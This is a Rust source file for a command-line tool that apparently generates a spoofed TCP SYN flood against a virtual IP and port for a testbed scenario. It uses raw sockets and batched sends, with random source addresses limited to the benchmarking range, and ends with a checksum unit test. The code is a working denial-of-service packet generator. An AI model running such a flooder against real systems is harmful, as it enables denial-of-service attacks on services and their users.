//! dvipa-synflood: spoofed TCP SYNs at DVIPA:PORT at a fixed rate, for the SYN-flood scenario.
//!
//! Sources are random addresses of 198.18.0.0/15 (the benchmarking range, RFC 2544) with random
//! ports, so no SYN can be mistaken for a real client's and the servers' SYN-ACKs go nowhere
//! (the testbed's router has no route for that range). Raw IPv4 socket (IP_HDRINCL), `sendmmsg`
//! batches, paced per millisecond. Run it inside the client's namespace; it stops after
//! `--secs`. Prints one JSON line: `{"sent":N,"secs":S,"rate":R,"errors":E}`.
//!
//! ```text
//! ip netns exec <client-ns> dvipa-synflood --target 10.77.200.1:8080 --rate 100000 --secs 10
//! ```

use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use clap::Parser;

#[derive(Parser, Debug)]
#[command(
    name = "dvipa-synflood",
    about = "Spoofed SYNs at a fixed rate (198.18.0.0/15 sources)"
)]
struct Args {
    /// DVIPA:PORT.
    #[arg(long, short)]
    target: SocketAddrV4,
    /// SYNs per second.
    #[arg(long, default_value_t = 10_000)]
    rate: u64,
    /// Seconds to send for.
    #[arg(long, default_value_t = 5.0)]
    secs: f64,
}

/// xorshift64*: cheap, good enough for spoofed addresses and ports.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn csum(data: &[u8], init: u32) -> u16 {
    let mut s = init;
    for c in data.chunks(2) {
        s += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    while s >> 16 != 0 {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}

/// A 40-byte IPv4 + TCP SYN from `src:sport` to `dst`.
fn syn(src: [u8; 4], sport: u16, dst: SocketAddrV4, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src);
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ipc = csum(&p[..20], 0);
    p[10..12].copy_from_slice(&ipc.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dst.port().to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    // Pseudo header: src, dst, proto, length.
    let mut ph = 0u32;
    for w in [&src[..], &dst.ip().octets()[..]] {
        ph += u32::from(u16::from_be_bytes([w[0], w[1]]))
            + u32::from(u16::from_be_bytes([w[2], w[3]]));
    }
    ph += 6 + 20;
    let tc = csum(&p[20..], ph);
    p[36..38].copy_from_slice(&tc.to_be_bytes());
    p
}

fn main() -> anyhow::Result<()> {
    let a = Args::parse();
    if a.rate == 0 || a.secs <= 0.0 {
        bail!("--rate and --secs must be > 0");
    }
    // SAFETY: plain socket creation; the fd is owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("raw socket (needs root)");
    }
    // SAFETY: fd is a fresh descriptor we own.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(a.target.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()));
    const B: usize = 64;
    let mut bufs = vec![[0u8; 40]; B];
    let start = Instant::now();
    let end = start + Duration::from_secs_f64(a.secs);
    let (mut sent, mut errors) = (0u64, 0u64);
    while Instant::now() < end {
        // Due by now at the requested rate.
        let due = (start.elapsed().as_secs_f64() * a.rate as f64) as u64;
        if sent >= due {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        let n = ((due - sent) as usize).min(B);
        for b in bufs.iter_mut().take(n) {
            let r = rng.next();
            // 198.18.0.0/15
            let host = (r as u32) & 0x1_ffff;
            let src = (0xc612_0000u32 | host).to_be_bytes();
            *b = syn(
                src,
                1024 + ((r >> 32) as u16 % 60000),
                a.target,
                (r >> 16) as u32,
            );
        }
        let mut iov: Vec<libc::iovec> = bufs[..n]
            .iter()
            .map(|b| libc::iovec {
                iov_base: b.as_ptr() as *mut libc::c_void,
                iov_len: b.len(),
            })
            .collect();
        // SAFETY: zeroed mmsghdr is valid plain data; pointers below outlive the call.
        let mut msgs: Vec<libc::mmsghdr> = (0..n).map(|_| unsafe { std::mem::zeroed() }).collect();
        for (m, v) in msgs.iter_mut().zip(iov.iter_mut()) {
            m.msg_hdr.msg_name = (&dst as *const libc::sockaddr_in) as *mut libc::c_void;
            m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
            m.msg_hdr.msg_iov = v;
            m.msg_hdr.msg_iovlen = 1;
        }
        // SAFETY: msgs/iov/dst are valid for n entries during the call.
        let r = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs.as_mut_ptr(), n as u32, 0) };
        if r > 0 {
            sent += r as u64;
        } else {
            errors += 1;
            sent += n as u64; // keep the pace; counted as errors
            std::thread::sleep(Duration::from_micros(100));
        }
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "{{\"sent\":{sent},\"secs\":{secs:.3},\"rate\":{:.0},\"errors\":{errors}}}",
        sent as f64 / secs
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksums_verify() {
        let p = syn(
            [198, 18, 1, 2],
            40000,
            "10.77.200.1:8080".parse().unwrap(),
            7,
        );
        assert_eq!(csum(&p[..20], 0), 0, "IPv4 header checksum");
        let mut ph = 0u32;
        for w in [[198u8, 18, 1, 2], [10, 77, 200, 1]] {
            ph += u32::from(u16::from_be_bytes([w[0], w[1]]))
                + u32::from(u16::from_be_bytes([w[2], w[3]]));
        }
        ph += 6 + 20;
        assert_eq!(csum(&p[20..], ph), 0, "TCP checksum");
        assert_eq!(p[33], 0x02, "SYN only");
    }
}
